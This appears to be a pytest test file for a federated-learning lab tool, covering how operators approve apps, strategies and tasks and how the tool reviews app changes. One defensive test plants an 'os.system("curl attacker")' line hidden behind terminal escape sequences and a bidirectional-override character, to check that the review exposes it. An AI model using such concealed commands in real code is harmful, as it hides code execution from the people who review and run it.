"""An operator's approvals: `lab agreement allow` edits the agreement the node then enforces, and
`lab app review` shows what an app would run, against the last app the agreement approved."""

from __future__ import annotations

from pathlib import Path

import pytest

from lab.core.spec import load_spec
from lab.errors import Refusal
from lab.node.agreement import load_agreement, template
from lab.runtime.app import app_hash, build_fab, stage_app

from .conftest import HEART, ROOT, run_lab

SPEC = load_spec(HEART / "task.toml")
CHANGE = "\n# an analyst's change, which every node's operator must get to read\n"


@pytest.fixture
def agreement(tmp_path: Path) -> Path:
    """An agreement approving another app only, two strategies and no task yet (the heart task
    renamed), with an operator's comments inside its arrays."""
    text = template(SPEC, "0" * 64, SPEC.organisation("va"))
    text = text.replace(f'apps = ["{"0" * 64}"]', f'apps = [\n    "{"0" * 64}",  # the app of March\n]')
    strategies = text[text.index("strategies = ") : text.index("\n", text.index("strategies = "))]
    text = text.replace(strategies, 'strategies = ["fedavg", "fedprox"]  # what our board approved')
    text = text.replace(f'name = "{SPEC.name}"', 'name = "another-task"')
    path = tmp_path / "agreement" / "va.toml"
    path.parent.mkdir()
    path.write_text(text)
    return path


def _changed_app(folder: Path) -> Path:
    """This project's app with one line added to its ServerApp: another app, another hash."""
    staged = stage_app(ROOT, folder)
    with (staged / "federation" / "server_app.py").open("a") as out:
        out.write(CHANGE)
    return staged


def test_allow_adds_what_was_asked_keeps_the_rest_and_the_node_reads_it(agreement: Path, tmp_path: Path) -> None:
    before = agreement.read_text()
    done = run_lab(
        "agreement", "allow", str(agreement), "--task", str(HEART / "task.toml"), "--strategy", "krum",
        "--strategy", "fedavg", "--app", ".", workspace=tmp_path / "ws",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    said = " ".join(done.stdout.split())
    ours = app_hash()
    assert f"added task '{SPEC.name}' (sha256 {SPEC.sha256}) to tasks" in said
    assert "added strategy 'krum' to allow.strategies" in said and "already allows 'fedavg'" in said
    assert f"added app {ours} to allow.apps" in said
    assert (agreement.parent / "approved-apps" / f"{ours}.fab").read_bytes() == build_fab()

    after = agreement.read_text()
    assert "# the app of March" in after and "# what our board approved" in after  # the operator's comments
    assert after.startswith(before[: before.index("[[tasks]]")])  # the head, untouched
    read = load_agreement(agreement)  # as the node reads it
    assert read.apps == {"0" * 64, ours}
    assert read.strategies == {"fedavg", "fedprox", "krum"}
    assert read.tasks == {"another-task": SPEC.sha256, SPEC.name: SPEC.sha256}
    read.check_app(ours)  # the node's own check lets the app through now
    with pytest.raises(Refusal):
        read.check_app("1" * 64)

    again = run_lab("agreement", "allow", str(agreement), "--app", ".", workspace=tmp_path / "ws")
    assert "allow.apps already approves app" in " ".join(again.stdout.split())
    assert agreement.read_text() == after


def test_a_changed_spec_gets_its_new_sha256(agreement: Path, tmp_path: Path) -> None:
    spec = tmp_path / "task.toml"
    spec.write_text((HEART / "task.toml").read_text().replace(f'name = "{SPEC.name}"', 'name = "another-task"'))
    changed = load_spec(spec)
    done = run_lab("agreement", "allow", str(agreement), "--task", str(spec), workspace=tmp_path / "ws")
    assert done.returncode == 0, done.stderr
    assert f"sha256 {SPEC.sha256} replaced by {changed.sha256} (the spec changed)" in " ".join(done.stdout.split())
    assert load_agreement(agreement).tasks == {"another-task": changed.sha256}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ((), "give what to allow: --app APP, --task SPEC or --strategy NAME"),
        (("--strategy", "fedsgd"), "--strategy 'fedsgd' is not a strategy of the lab; choose from"),
        (("--app", str(HEART / "task.toml")), "is not a Flower app (FAB): give a .fab file or the app's folder"),
        (("--app", str(HEART)), "has no pyproject.toml: give a Flower app's folder or its .fab file"),
        (("--task", str(HEART / "no-such.toml")), "no-such.toml"),
        (("--app", "{broken}"), "is not a Flower app's: "),
        (("--task", str(HEART / "task.toml"), "--strategy", "krum", "--app", "{broken}"), "is not a Flower app's: "),
    ],
    ids=["nothing", "unknown-strategy", "not-a-fab", "not-an-app", "no-spec", "broken-app", "one-of-three"],
)
def test_a_mistaken_allow_says_why_in_one_line_and_changes_nothing(
    agreement: Path, tmp_path: Path, args: tuple[str, ...], message: str
) -> None:
    before = agreement.read_text()
    broken = tmp_path / "app"
    broken.mkdir()
    (broken / "pyproject.toml").write_text("[project]\n")  # no name: Flower refuses to build it
    args = tuple(a.format(broken=broken) for a in args)
    done = run_lab("agreement", "allow", str(agreement), *args, workspace=tmp_path / "ws")
    assert done.returncode == 2, done.stdout + done.stderr
    said = " ".join(done.stderr.split())
    assert said.startswith("error: ") and message in said and "Traceback" not in said, said
    assert agreement.read_text() == before
    assert not (agreement.parent / "approved-apps").exists()


def test_review_shows_what_changed_since_the_approved_app(agreement: Path, tmp_path: Path) -> None:
    unknown = run_lab("app", "review", ".", "--agreement", str(agreement), workspace=tmp_path / "ws")
    assert unknown.returncode == 0, unknown.stderr
    said = " ".join(unknown.stdout.split())
    assert f"app {app_hash()}" in said and "not approved by" in said and "every file shows as new" in said
    assert "federation/server_app.py" in said and "pass --code to read every file in full" in said

    assert run_lab("agreement", "allow", str(agreement), "--app", ".", workspace=tmp_path / "ws").returncode == 0
    changed = _changed_app(tmp_path / "changed")
    seen = run_lab("app", "review", str(changed), "--agreement", str(agreement), workspace=tmp_path / "ws")
    assert seen.returncode == 0, seen.stderr
    out = seen.stdout
    assert "not approved by" in out and f"compared with the last approved app, {app_hash()}" in out
    rows = {line.split("│")[1].strip(): line for line in out.splitlines() if line.count("│") >= 5}
    assert "changed" in rows["federation/server_app.py"]
    assert all("same" in row for name, row in rows.items() if name != "federation/server_app.py")
    assert "+# an analyst's change, which every node's operator must get to read" in out  # the diff, line by line

    allowed = run_lab("agreement", "allow", str(agreement), "--app", str(changed), workspace=tmp_path / "ws")
    assert allowed.returncode == 0, allowed.stderr
    approved = run_lab("app", "review", str(changed), "--agreement", str(agreement), workspace=tmp_path / "ws")
    assert "approved by" in approved.stdout and "nothing changed since the approved app" in approved.stdout


def test_review_of_a_fab_file_prints_every_file_with_code(tmp_path: Path) -> None:
    fab = tmp_path / "app.fab"
    fab.write_bytes(build_fab(_changed_app(tmp_path / "changed")))
    seen = run_lab("app", "review", str(fab), "--code", workspace=tmp_path / "ws")
    assert seen.returncode == 0, seen.stderr
    assert CHANGE.strip() in seen.stdout  # the code itself, in full
    assert (ROOT / "federation" / "client_app.py").read_text().splitlines()[0] in seen.stdout


def test_an_app_cannot_hide_code_from_its_review_with_terminal_sequences(tmp_path: Path) -> None:
    """A coordinator's app whose file moves the cursor up and clears the line holding its real
    code, and reverses text with a bidirectional override: the review prints every such character
    as its escape, so the operator reads the line the node would run."""
    app = stage_app(ROOT, tmp_path / "app")
    hidden = 'import os; os.system("curl attacker")  \x1b[1A\x1b[2K# harmless comment\n# \u202etxet desrever\n'
    with (app / "federation" / "server_app.py").open("a") as out:
        out.write(hidden)
    fab = tmp_path / "app.fab"
    fab.write_bytes(build_fab(app))
    seen = run_lab("app", "review", str(fab), "--code", workspace=tmp_path / "ws")
    assert seen.returncode == 0, seen.stderr
    assert "\x1b[1A" not in seen.stdout and "\u202e" not in seen.stdout
    assert 'os.system("curl attacker")  \\x1b[1A\\x1b[2K# harmless comment' in seen.stdout
    assert "# \\u202etxet desrever" in seen.stdout
